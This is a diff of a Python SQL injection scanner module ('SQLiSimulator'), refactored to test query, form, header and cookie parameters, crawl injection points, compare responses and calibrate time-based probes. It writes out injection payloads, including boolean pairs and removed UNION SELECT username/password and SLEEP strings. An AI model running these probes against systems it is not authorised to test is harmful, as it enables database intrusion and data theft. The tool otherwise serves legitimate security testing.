@@ -2,29 +2,52 @@ import requests
 from urllib.parse import urljoin
 import re
 import logging
-from app import socketio
+from typing import Callable, Iterator
+from app.modules.events import emit_event, LogEmitter
+from app.modules.http_client import http_client as shared_http_client
+from app.modules.cache import baseline_cache
+from app.modules.health import HostUnreachable
+from app.modules.timing import TimingEngine
+from app.modules import sqli_payloads
+from app.modules.response_diff import ResponseComparer, similarity, fingerprint
+from app.modules.payload_engine import PayloadEngine, Probe
+from app.modules.request_template import RequestBuilder, RequestTemplate
+from app.modules.results import ScanReport, Finding, Record, HIGH, MEDIUM, ERROR
 
-class SQLiSimulator:
-    def __init__(self):
+class SQLiSimulator(LogEmitter):
+    # Responses less similar than this to the baseline are reported
+    SIMILARITY_THRESHOLD = 0.9
+
+    def __init__(self, http_client=None, mode='sequential', concurrency=5, timing=None, crawler=None):
         self.logger = logging.getLogger(__name__)
-        self.payloads = [
-            "' OR '1'='1",
-            "admin' --",
-            "' UNION SELECT NULL, username, password FROM users --",
-            "' AND SLEEP(2) --",  # Time-based
-            "' AND 1=CONVERT(int, @@version) --"  # Error-based
+        self.http = http_client or shared_http_client
+        self.engine = PayloadEngine(self.http, mode, concurrency)
+        self.timing = timing or TimingEngine(self.http)
+        self.crawler = crawler
+        self.payloads = sqli_payloads.content_payloads()
+        # Time-based payloads, sent one at a time by the timing engine
+        # with a delay calibrated against the baseline latency
+        self.time_payloads = sqli_payloads.time_payloads()
+        # Boolean-based pairs: (always true, always false) conditions
+        self.boolean_pairs = [
+            ("' AND '1'='1", "' AND '1'='2"),
+            ("1 AND 1=1", "1 AND 1=2")
         ]
         
-    def emit_log(self, message):
-        """Emit log message to connected clients"""
-        try:
-            socketio.emit('log_message', {'message': message})
-        except Exception as e:
-            self.logger.error(f"Error emitting log: {str(e)}")
-            
-    def test_endpoint(self, target_url, param_name="id"):
+    def test_endpoint(self, target_url, param_name="id", location="query") -> ScanReport:
         """Test SQL injection vulnerabilities on a target URL"""
-        results = []
+        report = ScanReport('sqli', target_url)
+        for record in self.iter_endpoint(report, target_url, param_name, location):
+            report.add(record)
+        return report
+
+    def iter_endpoint(self, report: ScanReport, target_url, param_name="id", location="query") -> Iterator[Record]:
+        """Yield findings for each payload as soon as its response is analysed.
+
+        param_name is injected in the given location of the request (query,
+        form, json, header or cookie). With a crawler every discovered
+        injection point is tested instead.
+        """
         self.emit_log(f"Starting SQL injection tests on {target_url}")
         
         # Ensure URL has proper scheme
@@ -33,75 +56,213 @@ class SQLiSimulator:
             self.emit_log(f"Added HTTP scheme: {target_url}")
             
         try:
-            # Test baseline response
-            self.emit_log("Getting baseline response...")
-            baseline = requests.get(target_url, timeout=5)
-            baseline_length = len(baseline.text)
-            self.emit_log(f"Baseline response length: {baseline_length} bytes")
-            
-            results.extend([
-                f"Testing SQL Injection vulnerabilities on {target_url}",
-                "=" * 50,
-                f"Baseline response length: {baseline_length} bytes\n"
-            ])
-            
-            for payload in self.payloads:
-                self.emit_log(f"Testing payload: {payload}")
-                results.extend([f"\nTesting payload: {payload}", "-" * 30])
-                
-                # Test GET parameter
-                test_url = f"{target_url}?{param_name}={payload}"
-                try:
-                    response = requests.get(test_url, timeout=5)
-                    
-                    # Check for common SQL error messages
-                    sql_errors = [
-                        "sql syntax", "mysql_fetch", "ORA-",
-                        "SQL Server", "mysqli_fetch", "PostgreSQL"
-                    ]
-                    
-                    for err in sql_errors:
-                        if err.lower() in response.text.lower():
-                            msg = "! SQL Error detected - Potential vulnerability!"
-                            self.emit_log(msg)
-                            results.append(msg)
-                            break
-                    
-                    # Check for significant response length difference
-                    diff = abs(len(response.text) - baseline_length)
-                    if diff > 100:
-                        msg = f"! Response length changed by {diff} bytes"
-                        self.emit_log(msg)
-                        results.append(msg)
-                    
-                    # Educational notes
-                    if "UNION SELECT" in payload:
-                        self.emit_log("Educational note: UNION-based injection detected")
-                        results.append("Note: UNION-based payloads can extract data from other tables")
-                    elif "SLEEP" in payload:
-                        self.emit_log("Educational note: Time-based injection detected")
-                        results.append("Note: Time-based payloads help detect blind SQLi")
-                    elif "CONVERT" in payload:
-                        self.emit_log("Educational note: Error-based injection detected")
-                        results.append("Note: Error-based payloads force database errors to leak info")
-                        
-                except requests.exceptions.Timeout:
-                    if "SLEEP" in payload:
-                        msg = "! Timeout occurred - Potential time-based SQLi!"
-                        self.emit_log(msg)
-                        results.append(msg)
-                except requests.exceptions.RequestException as e:
-                    msg = f"Error testing payload: {str(e)}"
-                    self.emit_log(msg)
-                    results.append(msg)
+            report.meta.update({
+                'url': target_url,
+                'payloads': list(self.payloads) + [payload for pair in self.boolean_pairs for payload in pair]
+            })
+            if self.crawler is not None:
+                yield from self._iter_crawled(report, target_url)
+            else:
+                yield from self._iter_parameter(report, target_url, param_name, location)
             
             self.emit_log("SQL injection testing completed")
-            socketio.emit('scan_complete', {'message': 'SQL Injection testing completed'})
-            results.append("\nReminder: Only test on authorized systems!")
-            return "\n".join(results)
+            emit_event('scan_complete', {'message': 'SQL Injection testing completed'})
             
+        except HostUnreachable as e:
+            # The remaining payloads would only fail the same way
+            self.emit_log(f"! Target unreachable, remaining tests skipped: {str(e)}")
+            report.meta['unreachable'] = str(e)
+            yield Finding("Target unreachable", ERROR, detail=f"{str(e)}; last error: {e.last_error}",
+                          location=target_url)
         except Exception as e:
             self.logger.error(f"SQLi testing error: {str(e)}")
             error_msg = f"Error during SQLi testing: {str(e)}"
             self.emit_log(error_msg)
-            return error_msg
\ No newline at end of file
+            report.fail(error_msg)
+
+    def _iter_parameter(self, report: ScanReport, target_url: str, param_name: str, location: str) -> Iterator[Record]:
+        """Test a single parameter of target_url"""
+        builder = RequestBuilder(target_url)
+        template = builder.template(location, param_name)
+        
+        # The baseline is the same request with a harmless value, so it has
+        # the payloads' method, body and headers
+        self.emit_log("Getting baseline response...")
+        benign = builder.value(location, param_name)
+        baseline_text = self._baseline_text(template.probe('1' if benign is None else benign))
+        self.emit_log(f"Baseline response length: {len(baseline_text)} bytes")
+        report.meta.update({'parameter': param_name, 'location': location, 'baseline_length': len(baseline_text)})
+        comparer = ResponseComparer(baseline_text)
+        
+        yield from self._iter_probes(comparer, template, param_name)
+        
+        # Timing tests run after the content probes so they never overlap
+        if template.location == 'query':
+            timing = yield from self._iter_timing(report, template.url_for, param_name)
+            if timing:
+                report.meta['timing'] = timing
+
+    def _iter_crawled(self, report: ScanReport, target_url: str) -> Iterator[Record]:
+        """Test every parameter of every injection point the crawler found"""
+        crawl = self.crawler.crawl(target_url)
+        report.meta.update({'crawl': crawl.summary(), 'points': [point.to_dict() for point in crawl.points]})
+        if not crawl.points:
+            self.emit_log("No injection points found to test")
+            return
+        timing = {}
+        for point in crawl.points:
+            templates = {param: point.template(param) for param in point.params}
+            # The baseline sends every field with its default value
+            first = point.params[0]
+            try:
+                baseline_text = self._baseline_text(templates[first].probe(point.defaults.get(first, '')))
+            except HostUnreachable:
+                raise
+            except requests.exceptions.RequestException as e:
+                msg = f"Error fetching baseline: {str(e)}"
+                self.emit_log(msg)
+                yield Finding(msg, ERROR, location=point.location(first))
+                continue
+            comparer = ResponseComparer(baseline_text)
+            for param, template in templates.items():
+                location = point.location(param)
+                self.emit_log(f"Testing parameter {location}")
+                yield from self._iter_probes(comparer, template, location)
+                if template.location == 'query':
+                    point_timing = yield from self._iter_timing(report, template.url_for, location)
+                    if point_timing:
+                        timing[location] = point_timing
+        if timing:
+            report.meta['timing_points'] = timing
+
+    def _baseline_text(self, probe: Probe) -> str:
+        """Response to a benign probe; plain GETs come from the shared baseline cache"""
+        if probe.method == 'GET' and not probe.headers:
+            return baseline_cache.fetch(probe.url, self.http).text
+        return self.http.request(probe.method, probe.url, data=probe.data, headers=probe.headers).text
+
+    def _iter_probes(self, comparer: ResponseComparer, template: RequestTemplate, location: str) -> Iterator[Finding]:
+        """Send the content and boolean payloads through template and analyse each response"""
+        probes = [template.probe(payload) for payload in self.payloads]
+        for pair_index, pair in enumerate(self.boolean_pairs):
+            probes.extend(template.probe(payload, {'pair': pair_index, 'condition': condition})
+                          for condition, payload in zip((True, False), pair))
+        pair_responses = {}
+        
+        for result in self.engine.iter_results(probes):
+            payload = result.probe.payload
+            self.emit_log(f"Testing payload: {payload}")
+            
+            if result.error is None and 'pair' in result.probe.context:
+                context = result.probe.context
+                pair_responses.setdefault(context['pair'], {})[context['condition']] = result.response.text
+                if len(pair_responses[context['pair']]) == 2:
+                    yield from self._check_boolean_pair(
+                        comparer, self.boolean_pairs[context['pair']],
+                        pair_responses.pop(context['pair']), location)
+            elif result.error is None:
+                comparison = comparer.compare(result.response.text, payload)
+                
+                # Check for DBMS error messages not already on the baseline
+                if comparison.errors:
+                    error = comparison.errors[0]
+                    msg = "SQL Error detected - Potential vulnerability!"
+                    self.emit_log(f"! {msg}")
+                    yield Finding(msg, HIGH, detail=f"Matched {error.label} error signature: {error.text}",
+                                  payload=payload, location=location)
+                
+                # Check whether the page content changed, ignoring dynamic tokens and reflections
+                elif comparison.similarity < self.SIMILARITY_THRESHOLD:
+                    msg = (f"Response differs from baseline (similarity {comparison.similarity:.2f}, "
+                           f"length changed by {comparison.length_delta:+d} bytes)")
+                    self.emit_log(f"! {msg}")
+                    yield Finding(msg, MEDIUM, payload=payload, location=location)
+                
+                # Educational notes
+                if "UNION SELECT" in payload:
+                    self.emit_log("Educational note: UNION-based injection detected")
+                elif "SLEEP" in payload:
+                    self.emit_log("Educational note: Time-based injection detected")
+                elif "CONVERT" in payload:
+                    self.emit_log("Educational note: Error-based injection detected")
+                    
+            elif isinstance(result.error, HostUnreachable):
+                raise result.error
+            elif isinstance(result.error, requests.exceptions.Timeout):
+                if "SLEEP" in payload:
+                    msg = "Timeout occurred - Potential time-based SQLi!"
+                    self.emit_log(f"! {msg}")
+                    yield Finding(msg, HIGH, payload=payload, location=location)
+            else:
+                msg = f"Error testing payload: {str(result.error)}"
+                self.emit_log(msg)
+                yield Finding(msg, ERROR, payload=payload, location=location)
+
+    def _check_boolean_pair(self, comparer: ResponseComparer, pair, responses, location: str) -> Iterator[Finding]:
+        """Flag a pair whose true condition keeps the page and whose false condition changes it"""
+        true_payload, false_payload = pair
+        true_page = fingerprint(responses[True], true_payload)
+        false_page = fingerprint(responses[False], false_payload)
+        if (similarity(comparer.baseline, true_page) >= self.SIMILARITY_THRESHOLD
+                and similarity(true_page, false_page) < self.SIMILARITY_THRESHOLD):
+            msg = "Boolean condition changes the response - Potential boolean-based SQLi!"
+            self.emit_log(f"! {msg}")
+            yield Finding(msg, HIGH, detail=f"True condition: {true_payload}",
+                          payload=false_payload, location=location)
+
+    def _iter_timing(self, report: ScanReport, url_for: Callable[[str], str], location: str) -> Iterator[Finding]:
+        """Run each time-based payload through the sequential timing test; returns the timing summary"""
+        if not self.time_payloads:
+            return None
+        self.emit_log("Measuring baseline response times...")
+        try:
+            baseline = self.timing.measure_baseline(url_for("1"))
+        except HostUnreachable:
+            raise
+        except requests.exceptions.RequestException as e:
+            msg = f"Error measuring baseline response times: {str(e)}"
+            self.emit_log(msg)
+            yield Finding(msg, ERROR, location=location)
+            return None
+        delay = self.timing.calibrate_delay(baseline)
+        self.emit_log(f"Baseline latency {baseline.mean * 1000:.0f} ms (sd {baseline.stdev * 1000:.0f} ms), "
+                      f"testing with {delay}s delays")
+        
+        verdicts = []
+        for template in self.time_payloads:
+            try:
+                verdict = self.timing.evaluate(url_for, template, baseline, delay)
+            except HostUnreachable:
+                raise
+            except requests.exceptions.RequestException as e:
+                payload = template.format(delay=delay)
+                msg = f"Error testing payload: {str(e)}"
+                self.emit_log(msg)
+                yield Finding(msg, ERROR, payload=payload, location=location)
+                continue
+            verdicts.append(verdict)
+            if verdict.payload not in report.meta['payloads']:
+                report.meta['payloads'].append(verdict.payload)
+            self.emit_log(f"Testing payload: {verdict.payload} ({verdict.requests} requests)")
+            if verdict.vulnerable:
+                msg = "Response delayed as injected - Potential time-based SQLi!"
+                self.emit_log(f"! {msg}")
+                yield Finding(msg, HIGH,
+                              detail=f"Confidence {verdict.confidence:.1%} after {verdict.requests} requests",
+                              payload=verdict.payload, location=location)
+            elif not verdict.decided:
+                self.emit_log(f"Timing inconclusive for {verdict.payload}")
+        
+        # Counted per call, so repeated scans and concurrent tasks on one engine never mix
+        return {
+            'baseline_mean': round(baseline.mean, 4),
+            'baseline_stdev': round(baseline.stdev, 4),
+            'delay': delay,
+            'requests': len(baseline.samples) + sum(v.requests for v in verdicts),
+            'total_time': round(sum(baseline.samples) + sum(v.elapsed for v in verdicts), 3),
+            'verdicts': [
+                {'payload': v.payload, 'vulnerable': v.vulnerable, 'confidence': v.confidence,
+                 'requests': v.requests, 'decided': v.decided}
+                for v in verdicts
+            ]
+        }